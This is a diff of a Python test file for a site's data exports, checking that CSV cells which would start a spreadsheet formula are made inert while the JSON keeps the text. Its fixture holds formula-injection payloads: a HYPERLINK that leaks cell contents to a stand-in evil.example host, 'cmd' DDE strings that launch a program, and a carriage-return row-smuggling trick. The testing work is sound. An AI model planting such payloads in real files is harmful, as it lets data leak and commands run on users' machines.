@@ -17,13 +17,17 @@ import yaml
 from support.archive import FIXTURE, REPO, read_statements
 from support.html import Site
 
-from scripts.index import build_index
+from scripts.index import Index, build_index
 from scripts.pipeline import Archive, site_config
 from scripts.render.exports import (
+    FORMULA_STARTS,
     SECTION_COLUMNS,
     STATEMENT_COLUMNS,
     render_exports,
+    sections_csv,
+    spreadsheet_cell,
     statements_csv,
+    statements_json,
 )
 from scripts.render.jobs import render_site
 from scripts.text import fold, paragraphs
@@ -312,3 +316,107 @@ def test_excerpts_are_folded_text(files: dict[str, str]) -> None:
     for row in rows(files["data/sections.csv"]):
         for paragraph in row["excerpts"].split("\n\n"):
             assert paragraph == fold(paragraph)
+
+
+# --- spreadsheets run no formula ------------------------------------------------------------------
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full text")',
+    "date_note": "-2+3 days after the summit",
+    "place": "+cmd|' /C calc'!A0",
+    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "heading": "\t=1+1 behind a tab",
+    "section_summary": "\r=1+1 behind a carriage return",
+    "excerpt": "- the first point; - the second",
+}
+"""Text a contributor could write (validation lets most of it through): each begins with one of
+the characters that make a spreadsheet run a cell."""
+
+
+@pytest.fixture(scope="module")
+def hostile(archive: Archive) -> Index:
+    base = next(s for s in archive.statements if s.sections and s.sections[0].excerpts)
+    first = base.sections[0]
+    excerpt = dataclasses.replace(first.excerpts[0], text=FORMULAS["excerpt"])
+    section = dataclasses.replace(
+        first,
+        heading=FORMULAS["heading"],
+        summary=FORMULAS["section_summary"],
+        excerpts=(excerpt,),
+    )
+    statement = dataclasses.replace(
+        base,
+        title=FORMULAS["title"],
+        date_note=FORMULAS["date_note"],
+        place=FORMULAS["place"],
+        summary=FORMULAS["summary"],
+        sections=(section, *base.sections[1:]),
+    )
+    return build_index([statement], archive.vocabularies)
+
+
+def test_spreadsheet_cell() -> None:
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1".replace("\r", "\n")
+    for harmless in (
+        "",
+        "1+1",
+        "a=1",
+        " =1",
+        "'=1",
+        "2026-05",
+        "https://example.org/?a=-1",
+        "\n=1",
+    ):
+        assert spreadsheet_cell(harmless) == harmless
+    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
+    # A carriage return inside a cell would end the row for a reader (the csv module does not
+    # quote it): the rest would be a row of its own, beginning with a formula.
+    assert spreadsheet_cell("ok\r=HYPERLINK(1)\r\nend") == "ok\n=HYPERLINK(1)\nend"
+
+
+def test_a_carriage_return_cannot_start_a_row_of_its_own(archive: Archive) -> None:
+    title = 'Harmless\r=HYPERLINK("https://evil.example/")'
+    statement = dataclasses.replace(archive.statements[0], title=title)
+    text = statements_csv(
+        build_index([statement], archive.vocabularies), archive.vocabularies, site_config(FIXTURE)
+    )
+    (row,) = rows(text)
+    assert row["title"] == title.replace("\r", "\n")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(archive: Archive, hostile: Index) -> None:
+    config = site_config(FIXTURE)
+    (row,) = rows(statements_csv(hostile, archive.vocabularies, config))
+    for column in ("title", "date_note", "place", "summary"):
+        assert row[column] == "'" + FORMULAS[column], column
+    section = rows(sections_csv(hostile, config))[0]
+    assert section["heading"] == "'" + FORMULAS["heading"]
+    assert section["summary"] == "'" + FORMULAS["section_summary"].replace("\r", "\n")
+    assert section["statement_title"] == "'" + FORMULAS["title"]
+    assert section["excerpts"].startswith("'" + FORMULAS["excerpt"])
+    (statement,) = hostile.statements
+    assert row["id"] == statement.id and row["url"].startswith("https://")  # the rest as it was
+    assert row["date"] == (statement.date.iso if statement.date else "")
+
+
+def test_json_keeps_the_text_as_written(archive: Archive, hostile: Index) -> None:
+    document = json.loads(statements_json(hostile, archive.vocabularies, site_config(FIXTURE)))
+    (record,) = document["statements"]
+    for column in ("title", "date_note", "place", "summary"):
+        assert record[column] == FORMULAS[column], column
+    assert record["sections"][0]["heading"] == FORMULAS["heading"]
+    assert record["sections"][0]["summary"] == FORMULAS["section_summary"]
+    assert record["sections"][0]["excerpts"][0]["text"] == FORMULAS["excerpt"]
+
+
+def test_no_cell_of_the_downloads_begins_as_a_formula(files: dict[str, str]) -> None:
+    for path in ("data/statements.csv", "data/sections.csv"):
+        for row in csv.reader(io.StringIO(files[path], newline="")):
+            assert not [cell for cell in row if cell.startswith(FORMULA_STARTS)], path
+
+
+def test_data_page_says_the_csv_cells_are_made_safe(files: dict[str, str]) -> None:
+    page = files["data/index.md"]
+    assert "begins with a single quote <code>'</code> instead" in page
+    assert "<code>statements.json</code> has every text exactly as written" in page
